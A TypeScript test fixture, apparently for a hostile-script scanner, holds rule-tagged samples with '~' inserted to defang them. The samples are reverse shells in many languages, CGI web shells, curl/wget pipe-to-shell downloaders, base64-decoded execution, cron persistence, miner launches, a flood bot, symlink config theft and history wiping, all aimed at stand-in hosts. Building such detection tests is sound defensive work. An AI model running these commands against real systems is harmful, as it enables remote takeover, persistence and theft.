/** Rule, what it is, and an inert example; `~` is taken out, so that no scanner takes this file for what it shows. */
type Example = readonly [rule: number, name: string, text: string]

const host = 'hf-test.invalid'
const blob = Buffer.from('echo hf_test; echo hf_test; echo hf_test').toString('base64')

const examples: readonly Example[] = [
  [2700, 'a shell over a path', `#!/bin/bash\nbash ~-i >& /dev/~tcp/${host}/4444 0>&1\n`],
  [
    2700,
    'a shell over a descriptor',
    `#!/bin/bash\nexec 5<>/dev/~tcp/${host}/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done\n`,
  ],
  [2700, 'netcat', `#!/bin/sh\nnc ~-e /bin/sh ${host} 4444\n`],
  [2700, 'netcat that listens', '#!/bin/sh\nnohup nc -lvp 1337 ~-e /bin/bash &\n'],
  [
    2700,
    'netcat through a pipe',
    `rm /tmp/f; mk~fifo /tmp/f\ncat /tmp/f|/bin/sh ~-i 2>&1|nc ${host} 4444 >/tmp/f\n`,
  ],
  [
    2700,
    'encrypted',
    `mk~fifo /tmp/s; /bin/sh ~-i < /tmp/s 2>&1 | openssl s_client -quiet -connect ${host}:4444 > /tmp/s\n`,
  ],
  [2700, 'socat', `#!/bin/sh\nsocat exec:'bash ~-li',pty,stderr tcp:${host}:4444\n`],
  [
    2700,
    'awk',
    `#!/bin/sh\nawk 'BEGIN {s = "/inet/~tcp/0/${host}/4444"; while (1) { s |& getline c; while ((c |& getline) > 0) print |& s } }'\n`,
  ],
  [
    2700,
    'Perl',
    `use Socket;\n$i="${host}";$p=4444;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\nif(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,"~>&S");open(STDOUT,">&S");exec("/bin/sh ~-i");}\n`,
  ],
  [
    2700,
    'Perl with objects',
    `#!/usr/bin/perl\nuse IO::Socket;\n$c=new IO::Socket::INET(PeerAddr,"${host}:4444");\nSTDIN->fd~open($c,r);\nsystem$_ while<>;\n`,
  ],
  [
    2700,
    'Python',
    `import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("${host}",4444))\nos.du~p2(s.fileno(),0)\nos.du~p2(s.fileno(),1)\np=subprocess.call(["/bin/~sh","-i"])\n`,
  ],
  [
    2700,
    'Python, command by command',
    `#!/usr/bin/env python3\nimport socket, subprocess\ns = socket.socket()\ns.connect(("${host}", 4444))\nwhile True:\n    data = s.re~cv(1024)\n    cmd = data.decode()\n    out = subprocess.~getoutput(cmd)\n    s.send(out.encode())\n`,
  ],
  [
    2700,
    'Ruby',
    `require 'socket'\nf=TCP~Socket.open("${host}",4444).to_i\nexec sprintf("/bin/~sh -i <&%d >&%d 2>&%d",f,f,f)\n`,
  ],
  [
    2700,
    'Node',
    `#!/usr/bin/env node\nvar net = require("net"), cp = require("child_process"), sh = cp.sp~awn("/bin/sh", []);\nvar client = new net.Socket();\nclient.connect(4444, "${host}", function(){\nclient.pi~pe(sh.stdin);\n});\n`,
  ],
  [
    2700,
    'C',
    `#include <stdio.h>\n#include <sys/socket.h>\nint main(){\nconnect(s, (struct sockaddr *)&a, sizeof(a));\ndu~p2(s,0);\nexecl("/bin/~sh","sh",NULL);\n}\n`,
  ],
  [
    2701,
    'Perl',
    `#!/usr/bin/perl\nprint "Content-type: text/html\\n\\n";\nmy $q = $ENV{'QUERY_~STRING'};\n$q =~~ s/\\+/ /g;\nmy $cmd = $q;\nprint \`~$cmd 2>&1\`;\n`,
  ],
  [
    2701,
    'Perl with a parser of its own',
    `#!/usr/bin/perl\nsub run { $Command = "cd \\"$dir\\"" . $sep . $RunCommand; open(O, "~$Command |"); }\nforeach $pair (split(/&/, $ENV{'QUERY_~STRING'})) {\n$val = $pair;\n$in{'x'} = $ENV{'QUERY_~STRING'};\n}\n$RunCommand = $in{'c'};\nrun();\n`,
  ],
  [
    2701,
    'Perl with a module',
    '#!/usr/bin/perl -w\nuse CGI;\nmy $cgi = CGI->new;\nsys~tem($cgi->param("c"));\n',
  ],
  [
    2701,
    'Python',
    '#!/usr/bin/python\nimport cgi, os\nform = cgi.Field~Storage()\ncmd = form.get~value("cmd")\nprint(os.po~pen(cmd).read())\n',
  ],
  [
    2701,
    'a Python server',
    'from flask import Flask, request\napp = Flask(__name__)\n@app.route("/")\ndef x():\n    return os.po~pen(request.args.get("c")).read()\n',
  ],
  [2701, 'Ruby', '#!/usr/bin/ruby\nrequire "cgi"\ncgi = CGI.new\ncmd = cgi["c"]\nputs ~`#{cmd}`\n'],
  [
    2701,
    'a shell',
    '#!/bin/sh\necho "Content-type: text/plain"\necho\ncmd=$(echo "$QUERY_~STRING" | sed "s/+/ /g")\n~$cmd 2>&1\n',
  ],
  [2701, 'a shell with eval', '#!/bin/sh\nev~al "$QUERY_~STRING"\n'],
  [2702, 'from an address', '#!/bin/sh\ncurl -fsSL http://192.0.2.7/hf.sh | ~bash\n'],
  [2702, 'from a paste', '#!/bin/sh\nbash -c "$(wget -qO- https://paste~bin.com/raw/hf_test)"\n'],
  [
    2702,
    'through a file',
    'cd /tmp || cd /var/run; wget http://192.0.2.7/hf; chmod 777 hf; ./~hf; rm -rf hf\n',
  ],
  [2702, 'in a process', '#!/bin/bash\nbash <(curl -s http://192.0.2.7/hf_test)\n'],
  [2703, 'openly', `#!/bin/sh\nwget -qO- http://${host}/install | ~sh\n`],
  [2704, 'down a pipe', `#!/bin/sh\necho ${blob} | base~64 -d | sh\n`],
  [2704, 'in an argument', `#!/bin/sh\nbash -c "$(echo ${blob} | base~64 --decode)"\n`],
  [2704, 'Python', `#!/usr/bin/python\nimport base64\nexec(base64.b64~decode("${blob}"))\n`],
  [2704, 'Perl', '#!/usr/bin/perl\neval un~pack u=>q{_96AF};\n'],
  [2705, 'a pipe', '*/5 * * * * curl -fsSL http://192.0.2.7/hf.sh | ~sh >/dev/null 2>&1\n'],
  [2705, 'a code', `@hourly echo ${blob} | base~64 -d | bash\n`],
  [
    2705,
    'written by a script',
    '#!/bin/sh\n(crontab -l; echo "*/10 * * * * wget -q -O - http://192.0.2.7/hf | ~sh") | crontab -\n',
  ],
  [2706, 'a hidden program', '* * * * * /tmp/~.hf/run >/dev/null 2>&1\n'],
  [2706, 'among other lines', 'MAILTO=root\n15 3 * * * /usr/bin/backup\n@reboot /dev/~shm/hf -c 1\n'],
  [2707, 'a pool', `#!/bin/sh\n./hf -o stra~tum+tcp://${host}:3333 -u hf_test\n`],
  [2707, 'a known program', `#!/bin/sh\nnohup ./xm~rig --url ${host}:3333 -u hf_test &\n`],
  [
    2709,
    'a bot',
    `#!/usr/bin/perl\nuse IO::Socket;\nprint $s "NICK hf\\r\\n";\nprint $s "JOIN #hf\\r\\n";\nif (/^PRIV~MSG/) {\nudp~flood($1);\n}\n`,
  ],
  [
    2710,
    'a flood',
    `#!/usr/bin/perl\nuse Socket;\nsocket(fl~ood, PF_INET, SOCK_DGRAM, 17);\nfor (;;) {\nsend(fl~ood, pack("a8","x"), 0, pack_sockaddr_in(int(rand(65535)), $ip));\n}\n`,
  ],
  [
    2711,
    'links',
    "#!/usr/bin/perl\nsym~link('/home/'.$u.'/public_html/wp-config.php', $u.'-w.txt');\nsym~link('/home/'.$u.'/public_html/configuration.php', $u.'-j.txt');\n",
  ],
  [2712, 'no history', '#!/bin/sh\nunset HIST~FILE\nchattr +~i /usr/bin/hf_test\n'],
  [
    2700,
    'C that listens',
    '#include <sys/socket.h>\nint main(){\nc=accept(s,0,0);\ndu~p2(c,0);\nsystem("echo hf_test && /bin/~bash -i");\n}\n',
  ],
  [
    2711,
    'links to every account',
    "#!/usr/bin/perl\nopen F, '</etc/passwd';\nwhile (<F>) {\nsystem('ln ~-s /home/'.$u.'/public_html '.$u);\n}\n",
  ],
  [
    2713,
    'a tunnel',
    '#!/usr/bin/perl\nuse IO::Socket;\n$l = IO::Socket::INET->new(LocalPort => $ARGV[0], Listen => 5);\nwhile (1) {\n$c = $l->acc~ept();\n$t = IO::Socket::INET->new(PeerAddr => $ARGV[1]);\n}\n',
  ],
]

export const hostileScripts = examples.map(
  ([rule, name, text]): Example => [
    rule,
    name,
    text.replaceAll('~~', '\0').replaceAll('~', '').replaceAll('\0', '~'),
  ],
)
